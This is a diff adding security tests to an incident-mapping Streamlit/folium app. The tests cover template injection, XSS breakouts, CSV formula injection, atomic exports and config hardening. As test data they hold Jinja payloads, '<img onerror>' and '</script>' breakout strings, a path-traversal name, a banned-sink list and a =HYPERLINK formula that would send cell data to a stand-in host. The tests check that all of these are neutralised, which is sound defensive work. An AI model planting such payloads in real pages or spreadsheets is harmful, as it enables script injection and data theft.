@@ -1198,12 +1198,6 @@ def test_j01_j02_border_and_outer_edge_points_counted_once():
     assert out["adm2_id"].tolist() == ["A", "A", "A", "B"]
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="J04: overlapping admin units are resolved silently by the lowest-id tie-break; "
-    "geo/admin.py prepare_units must detect overlaps (pairwise intersection with area) and "
-    "report the unit ids (e.g. attrs['overlaps']) so the user is told.",
-)
 def test_j04_overlapping_units_detected_and_reported():
     from geo.admin import prepare_units
 
@@ -1212,7 +1206,8 @@ def test_j04_overlapping_units_detected_and_reported():
         geometry=[shapely.box(-9, 12, -8, 13), shapely.box(-8.5, 12, -7.5, 13)],
         crs=4326,
     )
-    assert prepare_units(units).attrs.get("overlaps")
+    ((a, b, km2),) = prepare_units(units).attrs["overlaps"]
+    assert (a, b) == ("P", "Q") and km2 > 0
 
 
 def test_j05_empty_filter_result_gives_a_map_without_nan():
@@ -1342,3 +1337,543 @@ def test_t06_future_and_very_old_dates_flagged():
     result = read((FIX / "dates_acled.csv").read_bytes(), "dates.csv")
     flagged = {i.row: i.reason for i in result.report.issues if i.action == "flagged"}
     assert "is in the future" in flagged[7] and "before 1989" in flagged[8]
+
+
+# --------------------------------------------------------------------------- R: rendering
+
+_EXECUTED = ("PWNED", "ZZZ")  # what the template payloads print when they run
+
+
+def _payload_incidents():
+    """Canonical incidents whose every text field carries a payload (SYNTHETIC)."""
+    rows = [
+        {
+            "id": f"R-{k}",
+            "date": "2025-04-03",
+            "lat": BAMAKO[1] if k % 2 else KAYES[1],
+            "lon": BAMAKO[0] if k % 2 else KAYES[0],
+            "location": text,
+            "actor1": text,
+            "type": text,
+            "notes": text,
+            "url": text,
+        }
+        for k, text in enumerate(PAYLOADS.values())
+    ]
+    return read(csv_bytes(rows), "payloads.csv").incidents
+
+
+def _render(group) -> str:
+    from layers.map import new_map
+
+    m = new_map()
+    group.add_to(m)
+    return m.get_root().render()
+
+
+def test_r01_r02_r03_templates_in_data_do_not_run_on_the_server():
+    import folium
+    from jinja2 import TemplateSyntaxError
+
+    default = folium.Map(tiles=None)
+    folium.Marker(BAMAKO[::-1], popup=PAYLOADS["jinja_expr"]).add_to(default)
+    folium.Marker(BAMAKO[::-1], tooltip=PAYLOADS["jinja_stmt"]).add_to(default)
+    page = default.get_root().render()
+    assert "PWNED" in page and "ZZZ" in page  # folium's default runs both
+    broken = folium.Map(tiles=None)
+    folium.Marker(BAMAKO[::-1], popup=PAYLOADS["jinja_raw"]).add_to(broken)
+    with pytest.raises(TemplateSyntaxError):
+        broken.get_root().render()  # one bad note, no map at all
+    from layers.incidents import build_incidents
+
+    ours = _render(build_incidents(_payload_incidents(), name="Incidents"))
+    assert not any(marker in ours for marker in _EXECUTED)
+
+
+def test_r04_to_r07_html_and_script_breakouts_are_entities_on_the_page():
+    from layers.incidents import build_incidents
+
+    page = _render(build_incidents(_payload_incidents(), name="Incidents"))
+    for raw in (
+        "<img src=x onerror",
+        "</script><script>window.__pwned",
+        "${(window.__pwned",
+        "`;window.__pwned",
+    ):
+        assert raw not in page
+    assert "&lt;img src=x onerror=" in page  # shown as text in the popup
+
+
+def test_r08_payloads_as_labels_and_property_names_stay_text():
+    from layers._geojson import GeoJsonLayer, feature_collection
+    from layers.safe import safe_properties
+
+    units = gpd.GeoDataFrame(
+        {"name": [PAYLOADS["jinja_expr"]], "n": [3]},
+        geometry=[shapely.box(-9, 12, -8, 13)],
+        crs=4326,
+    )
+    props = safe_properties(units, {"name": PAYLOADS["jinja_stmt"], "n": "n"})
+    label = PAYLOADS["img_onerror"]
+    fc = feature_collection(units, {"name": "k", "n": "n"})
+    layer = GeoJsonLayer(fc, styles=[{"color": "#333333"}], tooltip_fields=[("k", label)])
+    assert props.columns[0] == "&#123;% for i in range(3) %&#125;Z&#123;% endfor %&#125;"
+    page = _render(layer)
+    assert not any(marker in page for marker in _EXECUTED)
+    assert "<img src=x" not in page
+
+
+# Markdown-rendering Streamlit calls: expressions interpolated into their text, reviewed to
+# be our own wording, numbers, dates or fixed labels (never text from a user file). Anything
+# new fails R10 until it is shown with st.text/st.dataframe or reviewed and added here.
+_REVIEWED_MARKDOWN_ARGS = {
+    "list(state.TABS)": "fixed tab labels",
+    "line": "ui/about.py: lines of the constant _LIMITS",
+    "len(issues)": "a count",
+    "len(report.notes)": "a count",
+    "attribution_line()": "bundled data credits",
+    "title": "ui/chrome.py, ui/routes.py: our own fixed titles",
+    "what": "ui/chrome.py: our own wording of what failed",
+    "label": "widget labels from fixed tables (LAYERS, FORMATS)",
+    "reason": "ui/exports.py: our own reason text",
+    "SHARE_NOTE": "geo.export constant",
+    "HOTSPOT_METHODS[method]": "fixed labels",
+    "level": "fixed admin level labels",
+    "prev_start.date()": "a date",
+    "prev_end.date()": "a date",
+    "p.segment_km": "a number",
+    "p.buffer_km": "a number",
+    "p.half_life_days": "a number",
+    "p.as_of": "a date",
+    "p.site_radius_km": "a number",
+    "before": "a date",
+    "row['length_km']": "a number",
+    "int(row['rank_in_group'])": "a number",
+    "n_generic": "a count",
+    "message": "ui/access.py: our own fixed messages",
+    "prev[0]": "a date",
+    "prev[1]": "a date",
+    "before if before is not None else 'unknown'": "a count",
+    "provenance_text(start=f.start, end=f.end, sources=list(analysis.sources), n_events=int("
+    "analysis.key_figures.get('incidents', len(analysis.incidents))), left_out=analysis."
+    "left_out, as_of=analysis.params.as_of)": "ui/chrome.py: source labels, dates and counts",
+}
+_MARKDOWN_CALLS = {
+    "markdown", "caption", "write", "info", "warning", "error", "success", "title", "header",
+    "subheader", "toast", "expander", "tabs", "metric", "button", "download_button",
+    "checkbox", "toggle", "radio", "selectbox", "multiselect", "text_input", "popover",
+}  # fmt: skip
+
+
+def _ui_files() -> list[Path]:
+    return [REPO / "app.py", *sorted((REPO / "ui").glob("*.py"))]
+
+
+def test_r10_no_raw_html_sinks_in_app_ui_or_layers():
+    import ast
+
+    banned_calls = {"st.html", "st.iframe", "folium_static", "folium.Popup", "folium.Tooltip"}
+    banned_calls |= {"folium.GeoJsonTooltip", "folium.GeoJsonPopup", "folium.IFrame"}
+    banned_calls |= {"folium.Html", "folium.Element", "Popup", "Tooltip", "GeoJsonTooltip"}
+    found = []
+    for path in [*_ui_files(), *sorted((REPO / "layers").glob("*.py"))]:
+        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
+            if isinstance(node, ast.keyword) and node.arg in (
+                "unsafe_allow_html",
+                "unsafe_allow_javascript",
+            ):
+                found.append(f"{path.name}:{node.value.lineno} {node.arg}")
+            if isinstance(node, ast.Call):
+                name = ast.unparse(node.func)
+                if name in banned_calls or name.endswith(".explore") or "components" in name:
+                    found.append(f"{path.name}:{node.lineno} {name}(...)")
+    assert found == []
+
+
+def test_r10_markdown_calls_interpolate_only_reviewed_expressions():
+    import ast
+
+    unreviewed = []
+    for path in _ui_files():
+        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
+            if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)):
+                continue
+            base = ast.unparse(node.func.value)
+            if node.func.attr not in _MARKDOWN_CALLS or not base.startswith(("st", "col")):
+                continue
+            args = node.args[:1] + [k.value for k in node.keywords if k.arg in ("help", "label")]
+            for arg in args:
+                if isinstance(arg, ast.Constant):
+                    continue
+                parts = (
+                    [v.value for v in arg.values if isinstance(v, ast.FormattedValue)]
+                    if isinstance(arg, ast.JoinedStr)
+                    else [arg]
+                )
+                for part in parts:
+                    expr = ast.unparse(part)
+                    if expr not in _REVIEWED_MARKDOWN_ARGS:
+                        unreviewed.append(f"{path.name}:{node.lineno} st.{node.func.attr}: {expr}")
+    assert unreviewed == [], "show data with st.text/st.dataframe, or review and list it"
+
+
+# R09 (markdown image beacon), R11 (payload corpus through the real app in Chromium) and
+# R12 (the exported HTML map in Chromium) are in tests/test_security_browser.py.
+
+
+# --------------------------------------------------------------------------- X: export
+
+
+@pytest.fixture(scope="module")
+def payload_analysis(context):
+    from geo.pipeline import Filters, Params, prepare_incidents, run_analysis
+
+    rows = [
+        {
+            "id": "X-1",
+            "date": "2025-04-03",
+            "lat": BAMAKO[1],
+            "lon": BAMAKO[0],
+            "notes": '=HYPERLINK("http://x.example/?"&A1,"click")',
+        },
+        {
+            "id": "X-2",
+            "date": "2025-04-04",
+            "lat": KAYES[1],
+            "lon": KAYES[0],
+            "notes": "@SUM(1+1)",
+            "actor1": "+1+1",
+        },
+        {
+            "id": "X-3",
+            "date": "2025-04-05",
+            "lat": SEGOU[1],
+            "lon": SEGOU[0],
+            "notes": "-2+3",
+            "actor1": "=1+1",
+        },
+    ]
+    result = read(csv_bytes(rows), "formulas.csv")
+    assigned = prepare_incidents(result.incidents, context)
+    window = Filters(start=date(2025, 1, 1), end=date(2025, 4, 30))
+    return run_analysis(
+        assigned, result.report, window, Params(as_of=date(2025, 4, 30)), context=context
+    )
+
+
+def test_x01_formula_cells_prefixed_numbers_untouched(payload_analysis, tmp_path):
+    from geo.export import export_csv_tables
+
+    raw = pd.DataFrame({"notes": ['=HYPERLINK("http://x")'], "lon": [-6.2157]}).to_csv(index=False)
+    assert '\n"=HYPERLINK' in raw  # pandas writes the formula as is
+    path = export_csv_tables(payload_analysis, tmp_path / "tables.zip")
+    with zipfile.ZipFile(path) as zf:
+        raw_csv = zf.read("incidents_used.csv").decode("utf-8-sig")
+    table = pd.read_csv(io.StringIO(raw_csv), dtype=str, keep_default_na=False)
+    assert set(table["notes"].str[:2]) == {"'=", "'@", "'-"}
+    assert set(table["actor1"]) == {"", "'+1+1", "'=1+1"}
+    assert table["longitude"].astype(float).round(5).tolist() == [BAMAKO[0], KAYES[0], SEGOU[0]]
+
+
+def _atomic_script(body: str) -> str:
+    return textwrap.dedent(
+        """
+        import os, signal, sys
+        sys.path.insert(0, {repo!r})
+        import geo
+        from pathlib import Path
+        from geo.export import write_atomic
+        dest = Path(sys.argv[1])
+        """
+    ).format(repo=str(REPO)) + textwrap.dedent(body)
+
+
+@pytest.mark.parametrize("previous", [None, b"complete earlier export"])
+@pytest.mark.parametrize("when", ["mid-write", "before rename"])
+def test_x02_kill_9_during_an_export_leaves_nothing_half_written(tmp_path, previous, when):
+    dest = tmp_path / "layers.gpkg"
+    if previous:
+        dest.write_bytes(previous)
+    body = """
+        def writer(tmp):
+            with open(tmp, "wb") as fh:
+                fh.write(b"SQLite format 3\\x00" + b"x" * 100_000)
+                fh.flush()
+                if sys.argv[2] == "mid-write":
+                    os.kill(os.getpid(), signal.SIGKILL)
+        def verify(tmp):
+            if sys.argv[2] == "before rename":
+                os.kill(os.getpid(), signal.SIGKILL)
+        write_atomic(dest, writer, verify=verify)
+    """
+    done = subprocess.run(
+        [sys.executable, "-c", _atomic_script(body), str(dest), when],
+        capture_output=True,
+        check=False,
+    )
+    assert done.returncode == -9
+    if previous:
+        assert dest.read_bytes() == previous
+    else:
+        assert not dest.exists()
+
+
+def test_x03_disk_full_is_a_clear_error_and_leaves_nothing(tmp_path):
+    body = """
+        import resource
+        import geopandas as gpd, shapely
+        from geo.errors import ExportError
+        from geo.tabular import write_table_atomic
+        resource.setrlimit(resource.RLIMIT_FSIZE, (64 * 1024, 64 * 1024))
+        frame = gpd.GeoDataFrame({"notes": ["Synthetic note " * 20] * 2000},
+                                 geometry=[shapely.Point(-8, 12.6)] * 2000, crs=4326)
+        for suffix in (".gpkg", ".csv"):
+            try:
+                write_table_atomic(frame, dest.with_suffix(suffix))
+                print("written", suffix)
+            except ExportError as exc:
+                print("ExportError", suffix, exc)
+    """
+    dest = tmp_path / "out" / "t.gpkg"
+    dest.parent.mkdir()
+    done = subprocess.run(
+        [sys.executable, "-c", _atomic_script(body), str(dest)],
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    assert done.returncode == 0, done.stderr
+    lines = done.stdout.splitlines()
+    assert [line.split()[:2] for line in lines] == [
+        ["ExportError", ".gpkg"],
+        ["ExportError", ".csv"],
+    ]
+    assert "File too large" in done.stdout or "too large" in done.stdout.lower()
+    assert list(dest.parent.iterdir()) == []
+
+
+def test_x04_gpkg_and_csv_round_trip(tmp_path):
+    from geo.tabular import write_table_atomic
+
+    source = read((FIX / "news_small.csv").read_bytes(), "news.csv").incidents
+    back = pyogrio.read_dataframe(write_table_atomic(source, tmp_path / "n.gpkg"))
+    assert back.crs == source.crs and len(back) == len(source)
+    assert list(back.columns) == list(source.columns)
+    assert back.geometry.to_wkb().tolist() == source.geometry.to_wkb().tolist()
+    for c in ("event_id", "notes", "location", "fatalities", "precise"):
+        assert back[c].tolist() == source[c].tolist()
+    assert (back["event_date"].dt.date == source["event_date"].dt.date).all()
+    csv_back = pd.read_csv(write_table_atomic(source, tmp_path / "n.csv"), encoding="utf-8-sig")
+    assert csv_back["event_id"].tolist() == source["event_id"].tolist()
+    assert np.allclose(csv_back["longitude"], source.geometry.x)
+
+
+def test_x05_empty_selection_exports_a_valid_file_with_its_schema(tmp_path):
+    from geo.schema import CANONICAL_COLUMNS, empty_incidents
+    from geo.tabular import write_table_atomic
+
+    back = pyogrio.read_dataframe(write_table_atomic(empty_incidents(), tmp_path / "e.gpkg"))
+    assert back.empty and list(back.columns) == list(CANONICAL_COLUMNS)
+
+
+def test_x06_same_length_exports_of_two_sessions_get_their_own_bytes():
+    from streamlit.runtime.media_file_storage import MediaFileKind
+    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
+
+    from geo.export import safe_export_name
+
+    quarter = 2**19  # the media id samples only the head, middle and tail (64 KiB each)
+    a = b"A" * quarter + b"session A private" + b"A" * 3 * quarter
+    b = b"A" * quarter + b"session B private" + b"A" * 3 * quarter
+    storage = MemoryMediaFileStorage("/media")
+    kind = MediaFileKind.DOWNLOADABLE
+    id_a = storage.load_and_get_id(a, "text/csv", kind, "incidents.csv")
+    id_b = storage.load_and_get_id(b, "text/csv", kind, "incidents.csv")
+    assert id_a == id_b and storage.get_file(id_b).content == a  # B would download A's file
+    storage = MemoryMediaFileStorage("/media")
+    name_a, name_b = (safe_export_name("tables", "csv") for _ in range(2))
+    id_a = storage.load_and_get_id(a, "text/csv", kind, name_a)
+    id_b = storage.load_and_get_id(b, "text/csv", kind, name_b)
+    assert storage.get_file(id_b).content == b and storage.get_file(id_a).content == a
+
+
+def test_x06_every_download_button_names_its_file_with_safe_export_name():
+    import ast
+
+    calls = [
+        node
+        for path in _ui_files()
+        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
+        if isinstance(node, ast.Call) and ast.unparse(node.func).endswith("download_button")
+    ]
+    assert calls, "no download button found"
+    for call in calls:
+        (file_name,) = [k.value for k in call.keywords if k.arg == "file_name"]
+        assert isinstance(file_name, ast.Call) and ast.unparse(file_name.func) == "safe_export_name"
+
+
+def test_x07_png_map_needs_no_network(payload_analysis, tmp_path, monkeypatch):
+    from geo.export_png import export_png
+
+    def refuse(*args: object, **kwargs: object) -> None:
+        raise OSError("network disabled by the test")
+
+    monkeypatch.setattr(socket.socket, "connect", refuse)
+    monkeypatch.setattr(socket, "create_connection", refuse)
+    path = export_png(payload_analysis, tmp_path / "map.png", width_px=1600)
+    assert path.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
+
+
+def test_x08_export_names_are_generated_sanitised_and_unique():
+    from geo.export import safe_export_name
+
+    names = {safe_export_name("brief", "pdf", when=(TODAY, TODAY)) for _ in range(200)}
+    assert len(names) == 200
+    assert all(n.startswith("sahel-risk-brief_2026-01-01_2026-01-01_") for n in names)
+    for kind, suffix in (("../etc", "pdf"), ("brief", "exe"), ("brief", "pdf/../x")):
+        with pytest.raises(ParameterError):
+            safe_export_name(kind, suffix)
+
+
+def test_x09_provenance_in_gpkg_csv_and_html(payload_analysis, tmp_path):
+    from geo.export import build_provenance, export_csv_tables, export_gpkg, export_html
+
+    prov = build_provenance(payload_analysis)
+    assert prov["validation"]["rows_in"] == 3 if "validation" in prov else prov
+    gpkg = export_gpkg(payload_analysis, tmp_path / "l.gpkg")
+    assert "provenance" in [name for name, _ in pyogrio.list_layers(gpkg)]
+    with zipfile.ZipFile(export_csv_tables(payload_analysis, tmp_path / "t.zip")) as zf:
+        assert any("provenance" in n for n in zf.namelist())
+    page = "<html><head></head><body>map</body></html>"
+    html_path = export_html(page, tmp_path / "m.html", provenance=prov)
+    assert 'name="sahel-risk-map-provenance"' in html_path.read_text(encoding="utf-8")
+
+
+# --------------------------------------------------------------------------- K: sessions, config
+
+
+def _config() -> dict:
+    import tomllib
+
+    return tomllib.loads((REPO / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
+
+
+def test_k04_k08_browser_facing_settings():
+    from streamlit import config
+
+    defaults = config._config_options_template
+    assert defaults["client.showErrorDetails"].default_val == "full"  # the stack's default
+    cfg = _config()
+    assert cfg["server"]["enableCORS"] is True
+    assert cfg["server"]["enableXsrfProtection"] is True
+    assert cfg["server"]["address"] == "127.0.0.1"
+    assert cfg["client"]["showErrorDetails"] == "none"
+    assert cfg["browser"]["gatherUsageStats"] is False
+    assert cfg["server"].get("enableAgentApi", False) is False
+    static = REPO / "static"
+    assert not any(p.suffix in (".toml", ".csv", ".gpkg", ".geojson") for p in static.rglob("*"))
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="K05: .streamlit/config.toml sets no server.allowedHosts, so any Host header is "
+    'accepted (DNS rebinding onto 127.0.0.1); add allowedHosts = ["localhost", '
+    '"127.0.0.1"] and document adding the public name when deploying.',
+)
+def test_k05_allowed_hosts_set():
+    assert _config()["server"].get("allowedHosts")
+
+
+def test_k03_no_module_global_mutation_in_app_ui_layers():
+    import ast
+
+    problems = []
+    for path in [*_ui_files(), *sorted((REPO / "layers").glob("*.py"))]:
+        tree = ast.parse(path.read_text(encoding="utf-8"))
+        mutable = {
+            t.id
+            for node in tree.body
+            if isinstance(node, ast.Assign | ast.AnnAssign)
+            and isinstance(node.value, ast.List | ast.Dict | ast.Set | ast.Call)
+            and not (isinstance(node.value, ast.Call) and "frozen" in ast.unparse(node.value.func))
+            for t in (node.targets if isinstance(node, ast.Assign) else [node.target])
+            if isinstance(t, ast.Name)
+        }
+        for fn in (n for n in ast.walk(tree) if isinstance(n, ast.FunctionDef)):
+            for node in ast.walk(fn):
+                if isinstance(node, ast.Global | ast.Nonlocal):
+                    problems.append(f"{path.name}:{node.lineno} {type(node).__name__}")
+                target = None
+                if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
+                    if node.func.attr in {"append", "extend", "update", "add", "pop", "clear",
+                                          "setdefault", "insert", "remove", "discard"}:  # fmt: skip
+                        target = node.func.value
+                elif isinstance(node, ast.Assign | ast.AugAssign):
+                    targets = node.targets if isinstance(node, ast.Assign) else [node.target]
+                    target = next((t.value for t in targets if isinstance(t, ast.Subscript)), None)
+                if isinstance(target, ast.Name) and target.id in mutable:
+                    local = {a.arg for a in fn.args.args + fn.args.kwonlyargs}
+                    assigned = {
+                        t.id
+                        for n in ast.walk(fn)
+                        if isinstance(n, ast.Assign)
+                        for t in n.targets
+                        if isinstance(t, ast.Name)
+                    }
+                    if target.id not in local | assigned:
+                        problems.append(f"{path.name}:{node.lineno} mutates global {target.id}")
+        if "cache_resource" in path.read_text(encoding="utf-8"):
+            problems.append(f"{path.name}: st.cache_resource (a shared mutable object)")
+    assert problems == []
+
+
+def test_k10_secrets_not_in_git_not_served_not_logged():
+    assert ".streamlit/secrets.toml" in (REPO / ".gitignore").read_text().splitlines()
+    tracked = subprocess.run(
+        ["git", "ls-files"], cwd=REPO, capture_output=True, text=True, check=True
+    ).stdout.split()
+    assert not [p for p in tracked if p.endswith("secrets.toml")]
+    access = (REPO / "ui" / "access.py").read_text(encoding="utf-8")
+    for line in access.splitlines():
+        if "log." in line:
+            assert "password)" not in line and "digest)" not in line
+
+
+# K07 (/media served without a cookie) is a deployment matter: see docs/SECURITY-CASES.md.
+# K09 (50 sessions connect and leave) is benchmarks/load_sessions.py; K11 (offline request
+# log) is tests/test_browser.py and tests/test_security_browser.py.
+
+
+# --------------------------------------------------------------------------- the one way in
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        pytest.param(
+            "ui/data.py",
+            marks=pytest.mark.xfail(
+                strict=True,
+                reason="ingest: ui/data.py _read_upload calls geo.readers.read_incidents in the "
+                "app process; it must call geo.ingest.ingest_upload (size/zip checks, sandboxed "
+                "worker) so that a crashing or hostile file cannot take the app down.",
+            ),
+        ),
+        *(
+            pytest.param(
+                f"geo/commands/{name}.py",
+                marks=pytest.mark.xfail(
+                    strict=True,
+                    reason=f"ingest: geo/commands/{name}.py reads the user's incident file with "
+                    "read_incidents in-process; use geo.ingest.ingest_upload("
+                    "readers.read_file_bytes(path), name=path.name, ...).",
+                ),
+            )
+            for name in ("validate", "brief", "exposure", "join")
+        ),
+    ],
+)
+def test_user_incident_files_are_read_through_ingest(path):
+    text = (REPO / path).read_text(encoding="utf-8")
+    assert "ingest_upload" in text
+    assert "read_incidents(" not in text
